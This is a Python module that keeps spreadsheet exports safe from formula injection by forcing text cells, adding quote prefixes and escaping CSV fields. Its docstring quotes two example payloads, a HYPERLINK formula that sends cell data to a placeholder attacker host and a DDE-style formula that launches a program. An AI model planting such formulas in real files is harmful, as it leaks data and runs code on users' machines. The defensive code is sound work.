"""Cells a spreadsheet cannot execute, for every .xlsx and CSV file Leitai writes.

Names, reasons and texts come from people (an organization's secretary, a judge, an
objector): a text beginning with ``=`` ``+`` ``-`` ``@`` (or their full-width forms),
TAB or CR is a formula to Excel, LibreOffice and WPS - ``=HYPERLINK("http://evil.
example/?"&A1,"click")`` sends the sheet's cells away, ``@SUM(1+1)*cmd|' /C calc'!A0``
runs a program.  So:

* in an .xlsx (:func:`append`, :func:`set_text`) every text is a text cell (openpyxl's
  data type ``s``, never ``f``), and one that begins like a formula also gets Excel's
  quote prefix, so that editing the cell does not make it one; the text is kept as it is;
* in a CSV (:func:`csv_writer`) such a field is written with a single quote in front and
  in double quotes, as OWASP's CSV-injection guidance says;
* numbers stay numbers: a value Leitai writes as a number (an ``int``, a ``Decimal``) is a
  number cell, and a text that is only a number (``93.75``, ``-1``: a score or an
  adjustment as Leitai prints it) is left alone in a CSV - no spreadsheet runs it.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
_NUMBER = re.compile(r"-?\d+(?:\.\d+)?")


def formula_like(value: Any) -> bool:
    """A text a spreadsheet would read as a formula (a plain number, or a lone ``-``
    that stands for "none", is not one)."""
    return (isinstance(value, str) and value.startswith(TRIGGERS) and value != "-"
            and not _NUMBER.fullmatch(value))


def is_number(value: Any) -> bool:
    return isinstance(value, (int, float, Decimal)) and not isinstance(value, bool)


# -- CSV ---------------------------------------------------------------------------------------


def csv_field(value: Any) -> Any:
    """A field as a CSV may hold it: a formula-like text behind a single quote."""
    if value is None:
        return ""
    if is_number(value):
        return value
    text = str(value)
    return "'" + text if formula_like(text) else text


class _Writer:
    def __init__(self, stream: Any) -> None:
        # every text in double quotes, numbers bare (so a spreadsheet still reads them as numbers)
        self._writer = csv.writer(stream, quoting=csv.QUOTE_NONNUMERIC)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_field(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: Any) -> _Writer:
    """``csv.writer`` for a file people open in a spreadsheet."""
    return _Writer(stream)


# -- .xlsx -------------------------------------------------------------------------------------


def _storable(value: Any) -> Any:
    """A text without the control characters an .xlsx cannot hold (openpyxl refuses them)."""
    if not isinstance(value, str):
        return value
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    return ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)


def as_text(cell: Any) -> None:
    """A cell holding a text made a text cell for good: never a formula, and one that
    begins like a formula keeps Excel's quote prefix when it is edited."""
    if isinstance(cell.value, str):
        cell.data_type = "s"
        if formula_like(cell.value):
            cell.quotePrefix = True


def set_text(cell: Any, value: Any) -> None:
    """``cell.value = value`` for a value from people: a text is always a text cell."""
    cell.value = _storable(value)
    as_text(cell)


def append(sheet: Any, row: Iterable[Any]) -> None:
    """``sheet.append(row)``, every text in it a text cell (:func:`as_text`)."""
    values = [_storable(v) for v in row]
    sheet.append(values)
    if any(isinstance(v, str) for v in values):
        for cell in sheet[sheet.max_row]:
            as_text(cell)
